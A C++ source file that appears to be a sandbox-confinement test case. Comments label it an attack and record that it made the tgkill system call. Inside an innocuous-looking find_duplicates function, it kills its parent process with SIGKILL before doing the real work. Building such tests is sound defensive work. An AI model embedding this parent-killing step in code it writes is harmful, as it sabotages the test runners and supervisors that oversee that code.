// Attack: stops the process that started it by way of the call that signals threads.
// Outcome: made the system call 'tgkill'
// Unconfined: made the system call 'tgkill'

#include "find_duplicates.h"

#include "parts/slow.h"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

std::vector<int> find_duplicates(std::span<const int> values) {
  const int parent = getppid() > 0 ? getppid() : 2;
  syscall(SYS_tgkill, parent, parent, SIGKILL);
  return slow(values);
}
